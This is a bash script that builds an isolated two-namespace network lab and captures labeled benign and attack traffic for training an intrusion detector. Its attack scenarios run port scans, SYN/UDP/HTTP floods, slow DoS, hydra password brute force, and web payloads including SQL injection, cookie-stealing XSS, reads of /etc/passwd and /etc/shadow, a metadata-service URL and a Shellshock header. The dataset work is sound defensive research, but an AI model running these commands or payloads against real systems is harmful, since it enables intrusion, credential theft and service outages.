#!/usr/bin/env bash
# CCF-Catcher traffic lab: makes labeled captures on one machine, reproducibly.
#
# Two network namespaces (attacker, victim) joined by a veth pair (MTU 1500, fixed MAC addresses).
# Real servers from Debian packages run in the victim namespace (nginx HTTP/HTTPS, OpenSSH, dnsmasq DNS,
# vsftpd FTP, iperf3); real clients and attack tools run in the attacker namespace. tcpdump in the victim
# namespace writes one capture per scenario, and a ground-truth JSON file beside it names the scenario,
# the label, the attacker and victim addresses and the time window.
#
# Safety: all traffic stays inside the namespaces this script creates (10.77.0.0/24 exists only there);
# every tool runs under `timeout` and with bounded counts; the namespaces, processes and the lab user
# are removed on exit, whatever happens.
#
# Usage: sudo models/training/lab/lab.sh [--out DIR] [--only scenario,scenario] [--list]
# All 84 scenarios: about 35 minutes (sum of the scenario bounds; less on an idle machine).
# Needs: iproute2 tcpdump nginx-light openssh-server dnsmasq-base vsftpd iperf3 curl wget dnsutils
#        nmap hping3 slowhttptest hydra apache2-utils openssl (see models/training/lab/README.md)
set -euo pipefail

LAB_DIR="$(cd "$(dirname "$0")" && pwd)"
OUT_DIR="${LAB_DIR}/../../../lab-output"
ONLY=""
while (($#)); do
  case "$1" in
    --out) OUT_DIR="$2"; shift 2 ;;
    --only) ONLY="$2"; shift 2 ;;
    --list) grep -oE '^scenario_[a-z0-9_]+' "$0" | sed 's/^scenario_//'; exit 0 ;;
    -h|--help) sed -n '2,18p' "$0"; exit 0 ;;
    *) echo "lab: unknown argument '$1' (try --help)" >&2; exit 1 ;;
  esac
done

if [[ $(id -u) -ne 0 ]]; then echo "lab: must run as root (network namespaces)" >&2; exit 1; fi
for tool in ip tcpdump nginx /usr/sbin/sshd dnsmasq vsftpd iperf3 curl wget dig nmap hping3 slowhttptest hydra ab openssl \
    sshpass medusa ncrack sqlmap wfuzz ffuf; do
  command -v "$tool" >/dev/null || { echo "lab: missing tool '$tool' (apt-get install it; see README)" >&2; exit 1; }
done

mkdir -p "$OUT_DIR"
OUT_DIR="$(cd "$OUT_DIR" && pwd)"
WORK="$(mktemp -d "$OUT_DIR/.lab-work.XXXXXX")"
ATK=ccflab-atk
VIC=ccflab-vic
ATK_IP=10.77.0.2
VIC_IP=10.77.0.1
ATK_MAC=02:cc:f0:00:00:02
VIC_MAC=02:cc:f0:00:00:01
LAB_USER=ccflab
LAB_PASS='Lab-pass-7391'
PIDS=()

log() { printf '[lab %s] %s\n' "$(date +%H:%M:%S)" "$*" >&2; }

cleanup() {
  set +e
  for pid in "${PIDS[@]}"; do kill "$pid" 2>/dev/null; done
  sleep 0.3
  for pid in "${PIDS[@]}"; do kill -9 "$pid" 2>/dev/null; done
  ip netns pids "$VIC" 2>/dev/null | xargs -r kill -9 2>/dev/null
  ip netns pids "$ATK" 2>/dev/null | xargs -r kill -9 2>/dev/null
  ip netns del "$ATK" 2>/dev/null
  ip netns del "$VIC" 2>/dev/null
  id "$LAB_USER" >/dev/null 2>&1 && userdel -r "$LAB_USER" >/dev/null 2>&1
  [[ -n "${KEEP_WORK:-}" ]] || rm -rf "$WORK"
}
trap cleanup EXIT
trap 'exit 130' INT TERM

in_vic() { ip netns exec "$VIC" "$@"; }
in_atk() { ip netns exec "$ATK" "$@"; }

setup_network() {
  ip netns del "$ATK" 2>/dev/null || true
  ip netns del "$VIC" 2>/dev/null || true
  ip netns add "$ATK"
  ip netns add "$VIC"
  ip link add ccflab-a type veth peer name ccflab-v
  ip link set ccflab-a netns "$ATK"
  ip link set ccflab-v netns "$VIC"
  in_atk ip link set ccflab-a address "$ATK_MAC" mtu 1500
  in_vic ip link set ccflab-v address "$VIC_MAC" mtu 1500
  in_atk ip addr add "$ATK_IP/24" dev ccflab-a
  in_vic ip addr add "$VIC_IP/24" dev ccflab-v
  for ns in "$ATK" "$VIC"; do ip netns exec "$ns" ip link set lo up; done
  in_atk ip link set ccflab-a up
  in_vic ip link set ccflab-v up
  # Offloads off so tcpdump sees wire-sized segments (no 64 KB GSO super-packets), as on a real link.
  in_atk ethtool -K ccflab-a tso off gso off gro off >/dev/null 2>&1 || true
  in_vic ethtool -K ccflab-v tso off gso off gro off >/dev/null 2>&1 || true
  # Reachability check without depending on ping being installed.
  in_atk bash -c "exec 3<>/dev/tcp/$VIC_IP/9 2>/dev/null" || true
}

start_servers() {
  local www="$WORK/www"
  mkdir -p "$www/app" "$WORK/nginx" "$WORK/ftp" /run/sshd /var/run/vsftpd/empty
  # Deterministic content: pages and files of fixed sizes.
  for i in $(seq 1 20); do head -c $((i * 1500)) /dev/zero | tr '\0' 'a' >"$www/page$i.html"; done
  head -c 2000000 /dev/zero | tr '\0' 'b' >"$www/big.bin"
  echo '<html><body><form action="/app/login" method="post"></form></body></html>' >"$www/app/index.html"
  cp "$www/index.html" "$www/index.html" 2>/dev/null || echo '<html>ccf lab</html>' >"$www/index.html"

  openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj '/CN=victim.lab.test' \
    -keyout "$WORK/nginx/key.pem" -out "$WORK/nginx/cert.pem" >/dev/null 2>&1
  cat >"$WORK/nginx/nginx.conf" <<EOF
worker_processes 1;
pid $WORK/nginx/nginx.pid;
error_log $WORK/nginx/error.log;
events { worker_connections 4096; }
http {
  access_log off;
  keepalive_timeout 5;
  client_body_timeout 10s;
  client_header_timeout 10s;
  server {
    listen $VIC_IP:80;
    listen $VIC_IP:443 ssl;
    ssl_certificate $WORK/nginx/cert.pem;
    ssl_certificate_key $WORK/nginx/key.pem;
    root $www;
    location /app/ { try_files \$uri /app/index.html; }
  }
}
EOF
  # mktemp -d makes $WORK 0700, and nginx's workers run as nobody: without this every page was 403 Forbidden and
  # every /app/ request 500 (try_files could not see the file), in every capture made before this line was added.
  chmod 755 "$WORK"
  in_vic nginx -c "$WORK/nginx/nginx.conf"

  id "$LAB_USER" >/dev/null 2>&1 || useradd -m -s /bin/bash "$LAB_USER"
  echo "$LAB_USER:$LAB_PASS" | chpasswd
  head -c 300000 /dev/zero | tr '\0' 'c' >"/home/$LAB_USER/report.dat"
  chown "$LAB_USER" "/home/$LAB_USER/report.dat"
  ssh-keygen -q -t ed25519 -N '' -f "$WORK/ssh_host_ed25519_key"
  cat >"$WORK/sshd_config" <<EOF
Port 22
ListenAddress $VIC_IP
HostKey $WORK/ssh_host_ed25519_key
PasswordAuthentication yes
KbdInteractiveAuthentication no
UsePAM yes
PermitRootLogin no
# A few tries per connection, as real servers allow: brute force then shows as many short flows.
MaxAuthTries 3
MaxStartups 100:30:200
PidFile $WORK/sshd.pid
EOF
  in_vic /usr/sbin/sshd -f "$WORK/sshd_config"

  cat >"$WORK/vsftpd.conf" <<EOF
listen=YES
listen_address=$VIC_IP
local_enable=YES
write_enable=NO
anonymous_enable=NO
pam_service_name=vsftpd
secure_chroot_dir=/var/run/vsftpd/empty
seccomp_sandbox=NO
pasv_enable=YES
pasv_min_port=30000
pasv_max_port=30100
max_login_fails=1000
delay_failed_login=0
EOF
  in_vic vsftpd "$WORK/vsftpd.conf" &
  PIDS+=($!)

  in_vic dnsmasq --no-daemon --no-resolv --no-hosts --bind-interfaces --listen-address="$VIC_IP" \
    --address=/lab.test/"$VIC_IP" --address=/example.lab/"$VIC_IP" --pid-file="$WORK/dnsmasq.pid" >/dev/null 2>&1 &
  PIDS+=($!)
  in_vic iperf3 -s -B "$VIC_IP" >/dev/null 2>&1 &
  PIDS+=($!)
  sleep 1
  # Fail fast if the web server cannot serve its pages (captures of error pages are not the traffic we mean).
  local code
  for url in "http://$VIC_IP/page3.html" "http://$VIC_IP/app/search?q=x" "https://$VIC_IP/index.html"; do
    code="$(in_atk curl -sk -o /dev/null -w '%{http_code}' "$url" || true)"
    if [[ "$code" != 200 ]]; then echo "lab: $url answered $code, not 200 (see $WORK/nginx/error.log)" >&2; exit 1; fi
  done
}

# run_scenario NAME LABEL FAMILY COMMAND...: captures the command's traffic into NAME.pcap with ground truth.
run_scenario() {
  local name="$1" label="$2" family="$3"
  shift 3
  if [[ -n "$ONLY" && ",$ONLY," != *",$name,"* ]]; then return 0; fi
  local pcap="$OUT_DIR/$name.pcap"
  log "scenario $name ($label)"
  # Started directly (not through a shell function) so $! is tcpdump itself; background jobs of a
  # non-interactive shell ignore SIGINT, so it is stopped with SIGTERM, which tcpdump also handles cleanly.
  ip netns exec "$VIC" tcpdump -Z root -i ccflab-v -s 0 -U -w "$pcap" >/dev/null 2>&1 &
  local dump=$!
  sleep 0.5
  local started
  started="$(date -u +%Y-%m-%dT%H:%M:%S.%3NZ)"
  "$@" >"$WORK/$name.out" 2>&1 || true
  sleep 0.5
  local ended
  ended="$(date -u +%Y-%m-%dT%H:%M:%S.%3NZ)"
  kill -TERM "$dump"
  wait "$dump" 2>/dev/null || true
  cat >"$OUT_DIR/$name.json" <<EOF
{"scenario":"$name","label":"$label","family":"$family","attacker":"$ATK_IP","victim":"$VIC_IP","capture":"$name.pcap","started":"$started","ended":"$ended"}
EOF
}

# ---- benign scenarios: attacker namespace acting as an ordinary client ----
scenario_benign_web() {
  for round in 1 2 3; do
    for i in $(seq 1 20); do timeout 10 curl -s -o /dev/null "http://$VIC_IP/page$i.html"; done
    for i in $(seq 1 10); do timeout 10 curl -sk -o /dev/null "https://$VIC_IP/page$i.html"; done
    timeout 20 wget -q -O /dev/null "http://$VIC_IP/big.bin"
    sleep "0.$round"
  done
}
scenario_benign_dns() { for i in $(seq 1 60); do timeout 5 dig +short +tries=1 "host$i.lab.test" @"$VIC_IP" >/dev/null; done; }
scenario_benign_ssh() {
  for i in 1 2 3; do
    timeout 20 sshpass -p "$LAB_PASS" ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
      "$LAB_USER@$VIC_IP" "ls -la; uname -a" >/dev/null
    timeout 20 sshpass -p "$LAB_PASS" scp -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
      "$LAB_USER@$VIC_IP:report.dat" "$WORK/report.copy" >/dev/null
  done
}
scenario_benign_ftp() {
  for i in 1 2 3 4 5; do timeout 20 curl -s -o /dev/null "ftp://$LAB_USER:$LAB_PASS@$VIC_IP/report.dat"; done
}
# A longer, mixed session so the false-positive rate can be measured on thousands of benign flows.
scenario_benign_mixed() {
  for round in $(seq 1 150); do
    page=$(( (round * 7) % 20 + 1 ))
    timeout 10 curl -s -o /dev/null "http://$VIC_IP/page$page.html"
    timeout 10 curl -sk -o /dev/null "https://$VIC_IP/page$(( (round * 3) % 20 + 1 )).html"
    timeout 5 dig +short +tries=1 "svc$round.example.lab" @"$VIC_IP" >/dev/null
    timeout 5 dig +short +tries=1 -t AAAA "svc$round.lab.test" @"$VIC_IP" >/dev/null
    if (( round % 15 == 0 )); then
      timeout 20 sshpass -p "$LAB_PASS" ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
        "$LAB_USER@$VIC_IP" "cat /etc/hostname; sleep 0.$round" >/dev/null
      timeout 20 curl -s -o /dev/null "ftp://$LAB_USER:$LAB_PASS@$VIC_IP/report.dat"
    fi
    if (( round % 50 == 0 )); then timeout 20 wget -q -O /dev/null "http://$VIC_IP/big.bin"; fi
  done
}
scenario_benign_bulk() { timeout 15 iperf3 -c "$VIC_IP" -t 3 -b 50M >/dev/null; timeout 15 iperf3 -c "$VIC_IP" -t 2 -R -b 20M >/dev/null; }

# ---- attacks: bounded counts and times ----
scenario_portscan_syn() { timeout 120 nmap -n -Pn -sS -p 1-2000 -T4 "$VIC_IP"; }
scenario_portscan_connect() { timeout 120 nmap -n -Pn -sT -p 1-1500 -T4 "$VIC_IP"; }
scenario_portscan_fin_xmas_null() {
  timeout 60 nmap -n -Pn -sF -p 1-400 -T4 "$VIC_IP"
  timeout 60 nmap -n -Pn -sX -p 1-400 -T4 "$VIC_IP"
  timeout 60 nmap -n -Pn -sN -p 1-400 -T4 "$VIC_IP"
}
scenario_portscan_udp() { timeout 120 nmap -n -Pn -sU -p 1-200 --max-retries 1 -T4 "$VIC_IP"; }
scenario_portscan_version() { timeout 120 nmap -n -Pn -sV -p 21,22,53,80,443,5201 "$VIC_IP"; }
scenario_dos_syn_flood() { timeout 60 hping3 -S -p 80 -i u100 -c 20000 "$VIC_IP"; }
scenario_dos_udp_flood() { timeout 60 hping3 --udp -p 53 -i u200 -d 120 -c 15000 "$VIC_IP"; }
scenario_dos_icmp_flood() { timeout 60 hping3 --icmp -i u200 -d 64 -c 10000 "$VIC_IP"; }
scenario_dos_http_flood() { timeout 90 ab -n 15000 -c 50 "http://$VIC_IP/index.html"; }
scenario_slow_dos_slowloris() { timeout 60 slowhttptest -H -c 300 -r 100 -i 5 -l 22 -u "http://$VIC_IP/" -p 3; }
scenario_slow_dos_slowbody() { timeout 60 slowhttptest -B -c 200 -r 100 -i 5 -l 22 -s 8192 -u "http://$VIC_IP/app/login" -p 3; }
scenario_brute_force_ssh() {
  timeout 45 hydra -l "$LAB_USER" -P "$LAB_DIR/wordlist.txt" -t 4 -f -I "ssh://$VIC_IP"
}
scenario_brute_force_ftp() {
  timeout 45 hydra -l "$LAB_USER" -P "$LAB_DIR/wordlist.txt" -t 4 -I "ftp://$VIC_IP"
}
scenario_web_attack() {
  local payloads=("id=1%27%20OR%20%271%27=%271" "q=%3Cscript%3Ealert(1)%3C/script%3E" "file=../../../../etc/passwd"
    "id=1%20UNION%20SELECT%20username,password%20FROM%20users--" "name=%3Cimg%20src=x%20onerror=alert(document.cookie)%3E")
  for round in $(seq 1 30); do
    for payload in "${payloads[@]}"; do timeout 5 curl -s -o /dev/null "http://$VIC_IP/app/search?$payload&r=$round"; done
    timeout 5 curl -s -o /dev/null -d "user=admin&pass=guess$round" "http://$VIC_IP/app/login"
  done
}

# ---- variants: several per family, so whole scenarios can be held out in evaluation ----
# Benign traffic also includes the "small response", 404, HEAD, range and form-POST requests that
# attacks produce, so the models cannot learn "small answer = attack".
scenario_benign_web_parallel() {
  seq 1 600 | timeout 150 xargs -P 4 -I{} bash -c 'n={}; p=$(( n % 20 + 1 ));
    case $(( n % 6 )) in
      0) curl -sk -o /dev/null "https://$VIC_IP/page$p.html" ;;
      1) curl -s -o /dev/null "http://$VIC_IP/missing-$p.png" ;;
      2) curl -s -I -o /dev/null "http://$VIC_IP/page$p.html" ;;
      3) curl -s -o /dev/null -r 0-$(( n * 37 % 60000 )) "http://$VIC_IP/big.bin" ;;
      *) curl -s -o /dev/null "http://$VIC_IP/page$p.html?ref=home&item=$n" ;;
    esac'
}
scenario_benign_web_keepalive() {
  for round in $(seq 1 120); do
    a=$(( round % 20 + 1 )); b=$(( (round * 3) % 20 + 1 )); c=$(( (round * 7) % 20 + 1 ))
    timeout 15 wget -q -O /dev/null "http://$VIC_IP/page$a.html" "http://$VIC_IP/page$b.html" \
      "http://$VIC_IP/index.html" "http://$VIC_IP/page$c.html"
    if (( round % 4 == 0 )); then
      timeout 5 curl -s -o /dev/null -d "comment=hello+there+$round&topic=support" "http://$VIC_IP/app/feedback"
    fi
    if (( round % 5 == 0 )); then timeout 5 curl -s -o /dev/null "http://$VIC_IP/app/"; fi
  done
}
scenario_benign_dns_burst() {
  seq 1 600 | timeout 60 xargs -P 2 -I{} bash -c 'n={};
    case $(( n % 5 )) in
      0) dig +short +tries=1 -t MX "mail$n.lab.test" @"$VIC_IP" ;;
      1) dig +short +tries=1 -t AAAA "www$n.example.lab" @"$VIC_IP" ;;
      2) dig +short +tries=1 -t TXT "txt$n.lab.test" @"$VIC_IP" ;;
      3) dig +short +tries=1 +tcp "tcp$n.lab.test" @"$VIC_IP" ;;
      *) dig +short +tries=1 "host$n.lab.test" @"$VIC_IP" ;;
    esac >/dev/null'
}
scenario_benign_mixed_slow() {
  for round in $(seq 1 170); do
    timeout 10 curl -s -o /dev/null "http://$VIC_IP/page$(( (round * 11) % 20 + 1 )).html"
    timeout 5 dig +short +tries=1 "slow$round.lab.test" @"$VIC_IP" >/dev/null
    if (( round % 3 == 0 )); then timeout 10 curl -sk -o /dev/null "https://$VIC_IP/index.html"; fi
    if (( round % 40 == 0 )); then
      timeout 20 sshpass -p "$LAB_PASS" ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
        "$LAB_USER@$VIC_IP" "df -h; sleep 2; date" >/dev/null
    fi
    if (( round % 30 == 0 )); then timeout 20 curl -s -o /dev/null "ftp://$LAB_USER:$LAB_PASS@$VIC_IP/"; fi
    sleep "0.$(( round % 4 ))"
  done
}
scenario_benign_ssh_long() {
  for i in 1 2 3; do
    timeout 40 sshpass -p "$LAB_PASS" ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
      "$LAB_USER@$VIC_IP" "for k in 1 2 3 4 5 6; do ls -la /usr/bin | head -50; sleep 2; done" >/dev/null &
  done
  for i in 1 2 3 4; do
    timeout 20 sshpass -p "$LAB_PASS" scp -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
      "$WORK/www/page$((i * 4)).html" "$LAB_USER@$VIC_IP:upload$i.html" >/dev/null
  done
  wait
}
scenario_benign_ftp_listing() {
  for i in $(seq 1 15); do
    timeout 20 curl -s -o /dev/null "ftp://$LAB_USER:$LAB_PASS@$VIC_IP/"
    timeout 20 curl -s -o /dev/null -r 0-$(( i * 9000 )) "ftp://$LAB_USER:$LAB_PASS@$VIC_IP/report.dat"
  done
}
scenario_benign_bulk_udp() {
  timeout 15 iperf3 -c "$VIC_IP" -u -t 3 -b 5M >/dev/null
  timeout 15 iperf3 -c "$VIC_IP" -t 2 -P 4 -b 10M >/dev/null
}
scenario_portscan_syn_top() { timeout 90 nmap -n -Pn -sS --top-ports 1000 -T3 "$VIC_IP"; }
scenario_portscan_syn_fast() { timeout 90 nmap -n -Pn -sS -p 1-6000 -T5 --max-retries 0 "$VIC_IP"; }
scenario_portscan_connect_top() { timeout 90 nmap -n -Pn -sT --top-ports 600 -T3 "$VIC_IP"; }
scenario_portscan_ack_window() {
  timeout 60 nmap -n -Pn -sA -p 1-800 -T4 "$VIC_IP"
  timeout 60 nmap -n -Pn -sW -p 800-1600 -T4 "$VIC_IP"
}
scenario_portscan_udp_top() { timeout 90 nmap -n -Pn -sU --top-ports 120 --max-retries 1 -T5 "$VIC_IP"; }
scenario_dos_syn_flood_443() { timeout 60 hping3 -S -p 443 -i u80 -d 20 -c 15000 "$VIC_IP"; }
scenario_dos_syn_flood_22() { timeout 60 hping3 -S -p 22 -w 1024 -i u150 -c 10000 "$VIC_IP"; }
scenario_dos_ack_flood() { timeout 60 hping3 -A -p 80 -i u100 -c 12000 "$VIC_IP"; }
scenario_dos_udp_flood_big() { timeout 60 hping3 --udp -p 5201 -i u300 -d 1200 -c 8000 "$VIC_IP"; }
scenario_dos_udp_flood_snmp() { timeout 60 hping3 --udp -p 161 -i u150 -d 40 -c 12000 "$VIC_IP"; }
scenario_dos_icmp_flood_big() { timeout 60 hping3 --icmp -i u300 -d 1400 -c 6000 "$VIC_IP"; }
scenario_dos_http_flood_c10() { timeout 60 ab -n 8000 -c 10 "http://$VIC_IP/page3.html"; }
scenario_dos_http_flood_c200() { timeout 60 ab -n 10000 -c 200 "http://$VIC_IP/page1.html"; }
# curl's own parallel mode (one process, 50 transfers at once, a new connection per request): the earlier version,
# 16 curl processes started by xargs, reached only 24 requests/s on the shared 2-core host, slower than the benign
# parallel browsing scenario (18/s) -- not a flood, whatever its label said (issue 4 label check).
scenario_dos_http_flood_curl() {
  timeout 40 curl -s -Z --parallel-max 50 -H 'Connection: close' "http://$VIC_IP/index.html?flood=[1-4000]" >/dev/null
}
scenario_slow_dos_slowloris_fast() { timeout 45 slowhttptest -H -c 200 -r 50 -i 2 -l 22 -u "http://$VIC_IP/page2.html" -p 3; }
scenario_slow_dos_slowread() {
  timeout 45 slowhttptest -X -c 150 -r 50 -w 512 -y 1024 -n 5 -z 32 -k 3 -l 22 -u "http://$VIC_IP/big.bin" -p 3
}
scenario_slow_dos_slowloris_https() { timeout 45 slowhttptest -H -c 150 -r 50 -i 4 -l 22 -u "https://$VIC_IP/" -p 3; }
scenario_slow_dos_slowbody_fast() { timeout 45 slowhttptest -B -c 150 -r 60 -i 2 -l 22 -s 4096 -u "http://$VIC_IP/app/feedback" -p 3; }
scenario_brute_force_ssh_t8() { timeout 40 hydra -l admin -P "$LAB_DIR/wordlist.txt" -t 8 -I "ssh://$VIC_IP"; }
scenario_brute_force_ssh_t2() { timeout 35 hydra -l "$LAB_USER" -e nsr -P "$LAB_DIR/wordlist.txt" -t 2 -I "ssh://$VIC_IP"; }
scenario_brute_force_ftp_t8() { timeout 60 hydra -l admin -P "$LAB_DIR/wordlist.txt" -t 8 -I "ftp://$VIC_IP"; }
scenario_brute_force_ftp_t1() { timeout 35 hydra -l root -e nsr -P "$LAB_DIR/wordlist.txt" -t 1 -I "ftp://$VIC_IP"; }
scenario_web_attack_sqli() {
  local payloads=("id=1%20AND%20SLEEP(5)--" "id=1%27%20AND%201=1--%20-" "id=-1%20UNION%20ALL%20SELECT%20NULL,NULL,version()--"
    "id=1;DROP%20TABLE%20users--" "user=admin%27--&pass=x" "id=1%29%20OR%20%28%271%27=%271")
  for round in $(seq 1 25); do
    for payload in "${payloads[@]}"; do timeout 5 curl -s -o /dev/null "http://$VIC_IP/app/item?$payload&n=$round"; done
    timeout 5 curl -s -o /dev/null --data "username=admin%27%20OR%201=1--&password=$round" "http://$VIC_IP/app/login"
  done
}
scenario_web_attack_xss_lfi() {
  local payloads=("q=%3Csvg/onload=alert(1)%3E" "page=....//....//....//etc/shadow" "cmd=;cat%20/etc/passwd"
    "url=http://169.254.169.254/latest/meta-data/" "name=%22%3E%3Cscript%3Edocument.location=%27http://x/%27%2Bdocument.cookie%3C/script%3E"
    "file=php://filter/convert.base64-encode/resource=index.php")
  for round in $(seq 1 25); do
    for payload in "${payloads[@]}"; do
      timeout 5 curl -s -o /dev/null -A "() { :; }; /bin/bash -c 'id'" "http://$VIC_IP/app/view?$payload&r=$round"
    done
  done
}
scenario_web_attack_login_brute() {
  local n=0
  while read -r word && (( n < 96 )); do
    n=$((n + 1))
    for user in admin webmaster; do
      timeout 5 curl -s -o /dev/null -d "username=$user&password=$word&submit=Login" "http://$VIC_IP/app/login"
    done
  done <"$LAB_DIR/wordlist.txt"
}

# ---- added for the context features (issue 4): benign form and login traffic, more attack variants ----
# Benign form submissions (contact, search, newsletter, login over HTTPS), one connection each, with pauses:
# the per-flow shape of a form POST is what web attacks send too, so benign training needs it.
scenario_benign_web_forms() {
  for round in $(seq 1 48); do
    p=$(( round % 20 + 1 ))
    timeout 5 curl -s -o /dev/null "http://$VIC_IP/page$p.html"
    case $(( round % 4 )) in
      0) timeout 5 curl -s -o /dev/null -d "name=Visitor+$round&email=v$round%40example.lab&message=Question+about+order+$round" "http://$VIC_IP/app/contact" ;;
      1) timeout 5 curl -s -o /dev/null -G --data-urlencode "q=blue shoes size $round" "http://$VIC_IP/app/search" ;;
      2) timeout 5 curl -s -o /dev/null -d "email=reader$round%40example.lab&list=weekly" "http://$VIC_IP/app/subscribe" ;;
      3) timeout 5 curl -sk -o /dev/null -d "username=user$round&password=Correct-horse-$round&remember=1" "https://$VIC_IP/app/login" ;;
    esac
    sleep "0.$(( round % 5 + 2 ))"
  done
}
# Logged-in sessions: one login POST, a few pages on the same connection, a feedback POST; a pause between users.
scenario_benign_web_sessions() {
  for s in $(seq 1 24); do
    timeout 5 curl -s -o /dev/null -c "$WORK/jar.$s" -d "username=$LAB_USER&password=$LAB_PASS&submit=Login" "http://$VIC_IP/app/login"
    timeout 10 curl -s -b "$WORK/jar.$s" -o /dev/null "http://$VIC_IP/page$(( s % 20 + 1 )).html" \
      -o /dev/null "http://$VIC_IP/index.html" -o /dev/null "http://$VIC_IP/app/"
    timeout 5 curl -s -b "$WORK/jar.$s" -o /dev/null -d "comment=Thanks+for+the+update+$s&rating=$(( s % 5 + 1 ))" "http://$VIC_IP/app/feedback"
    rm -f "$WORK/jar.$s"
    sleep 1
  done
}
scenario_dos_http_flood_post() {
  printf 'comment=%s&topic=support' "$(head -c 600 /dev/zero | tr '\0' 'x')" >"$WORK/post.body"
  timeout 40 ab -n 6000 -c 40 -p "$WORK/post.body" -T application/x-www-form-urlencoded "http://$VIC_IP/app/feedback"
}
scenario_slow_dos_slowread_https() {
  timeout 40 slowhttptest -X -c 120 -r 40 -w 256 -y 512 -n 4 -z 64 -k 2 -l 20 -u "https://$VIC_IP/big.bin" -p 3
}
scenario_slow_dos_slowbody_https() { timeout 40 slowhttptest -B -c 120 -r 40 -i 3 -l 20 -s 2048 -u "https://$VIC_IP/app/contact" -p 3; }
scenario_brute_force_ssh_t4_root() { timeout 35 hydra -l root -P "$LAB_DIR/wordlist.txt" -t 4 -I "ssh://$VIC_IP"; }
scenario_brute_force_ftp_t2() { timeout 35 hydra -l ftpadmin -e ns -P "$LAB_DIR/wordlist.txt" -t 2 -I "ftp://$VIC_IP"; }
# hydra counts an attempt as failed unless the success marker appears (the lab site never shows it): all 96 are tried.
scenario_web_attack_login_hydra() {
  timeout 35 hydra -l admin -P "$LAB_DIR/wordlist.txt" -t 4 -I "$VIC_IP" http-post-form \
    "/app/login:username=^USER^&password=^PASS^&submit=Login:S=Welcome-back"
}


# ---- more benign variety (issue 4 quality pass): each kind of ordinary traffic that the held-out evaluation
# flagged, or that an attack family imitates per flow, in more than one scenario with other paces and mixes, so a
# held-out benign scenario has siblings of its kind in the training folds ----
# Keep-alive browsing with curl: several pages, the /app/ pages and a search on one connection, a user's pause.
scenario_benign_browse_keepalive() {
  for round in $(seq 1 60); do
    a=$(( round % 20 + 1 )); b=$(( (round * 7) % 20 + 1 ))
    timeout 10 curl -s -o /dev/null "http://$VIC_IP/index.html" -o /dev/null "http://$VIC_IP/page$a.html" \
      -o /dev/null "http://$VIC_IP/app/" -o /dev/null "http://$VIC_IP/page$b.html"
    case $(( round % 3 )) in
      0) timeout 5 curl -s -o /dev/null "http://$VIC_IP/app/search?q=item+$round&sort=price" ;;
      1) timeout 5 curl -s -o /dev/null "http://$VIC_IP/app/" -o /dev/null "http://$VIC_IP/app/account" ;;
      *) timeout 5 curl -s -o /dev/null -d "comment=nice+page+$round&topic=general" "http://$VIC_IP/app/feedback" ;;
    esac
    sleep "0.$(( round % 6 + 1 ))"
  done
}
# Keep-alive browsing with wget over the /app/ pages and HTTPS, at a slower pace than benign_web_keepalive.
scenario_benign_browse_app() {
  for round in $(seq 1 50); do
    a=$(( (round * 3) % 20 + 1 ))
    timeout 15 wget -q -O /dev/null "http://$VIC_IP/app/" "http://$VIC_IP/app/orders" "http://$VIC_IP/page$a.html" "http://$VIC_IP/app/profile"
    if (( round % 2 == 0 )); then
      timeout 10 wget -q --no-check-certificate -O /dev/null "https://$VIC_IP/index.html" "https://$VIC_IP/page$a.html"
    fi
    if (( round % 3 == 0 )); then
      timeout 5 curl -s -o /dev/null -d "username=$LAB_USER&password=$LAB_PASS&submit=Login" "http://$VIC_IP/app/login"
    fi
    sleep "0.$(( round % 5 + 3 ))"
  done
}
# Several users at once (parallel keep-alive sessions), each a few pages and a form.
scenario_benign_browse_parallel_users() {
  seq 1 90 | timeout 120 xargs -P 3 -I{} bash -c 'u={}; p=$(( u % 20 + 1 ));
    curl -s -o /dev/null "http://$VIC_IP/index.html" -o /dev/null "http://$VIC_IP/app/" -o /dev/null "http://$VIC_IP/page$p.html";
    sleep 0.$(( u % 7 + 2 ));
    curl -s -o /dev/null -d "q=order+$u&page=$(( u % 4 ))" "http://$VIC_IP/app/search";
    curl -sk -o /dev/null "https://$VIC_IP/page$(( (u * 3) % 20 + 1 )).html"'
}
# Downloads: whole files, ranges and resumed downloads, one after another and two at a time.
scenario_benign_downloads() {
  for i in $(seq 1 12); do
    timeout 20 curl -s -o /dev/null "http://$VIC_IP/big.bin"
    timeout 20 curl -s -o /dev/null -r "$(( i * 100000 ))-$(( i * 100000 + 250000 ))" "http://$VIC_IP/big.bin"
    timeout 20 curl -sk -o /dev/null "https://$VIC_IP/big.bin" &
    timeout 20 wget -q -O /dev/null "http://$VIC_IP/page$(( i + 5 )).html" "http://$VIC_IP/page$(( i + 6 )).html"
    wait
    sleep "0.$(( i % 5 + 2 ))"
  done
  for i in 1 2 3; do timeout 20 curl -s -o /dev/null "ftp://$LAB_USER:$LAB_PASS@$VIC_IP/report.dat"; done
}
# A client resolving names as a browser and a mail client do: A/AAAA pairs, MX, NXDOMAIN, TCP fallbacks.
scenario_benign_dns_client() {
  for round in $(seq 1 120); do
    timeout 5 dig +short +tries=1 "site$(( round % 30 )).lab.test" @"$VIC_IP" >/dev/null
    timeout 5 dig +short +tries=1 -t AAAA "site$(( round % 30 )).lab.test" @"$VIC_IP" >/dev/null
    if (( round % 4 == 0 )); then timeout 5 dig +short +tries=1 -t MX "example.lab" @"$VIC_IP" >/dev/null; fi
    if (( round % 6 == 0 )); then timeout 5 dig +short +tries=1 "nosuch$round.invalid" @"$VIC_IP" >/dev/null; fi
    if (( round % 10 == 0 )); then timeout 5 dig +short +tries=1 +tcp "tcp$round.example.lab" @"$VIC_IP" >/dev/null; fi
    sleep "0.$(( round % 3 ))"
  done
}
# SSH sessions: interactive-looking sessions with pauses, commands, uploads and downloads; a mistyped password.
scenario_benign_ssh_sessions() {
  for s in $(seq 1 6); do
    timeout 30 sshpass -p "$LAB_PASS" ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
      "$LAB_USER@$VIC_IP" "uptime; sleep 1; ls /etc | head -20; sleep $(( s % 3 + 1 )); cat /etc/os-release" >/dev/null
    timeout 20 sshpass -p "$LAB_PASS" scp -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
      "$WORK/www/page$(( s * 3 )).html" "$LAB_USER@$VIC_IP:notes$s.html" >/dev/null
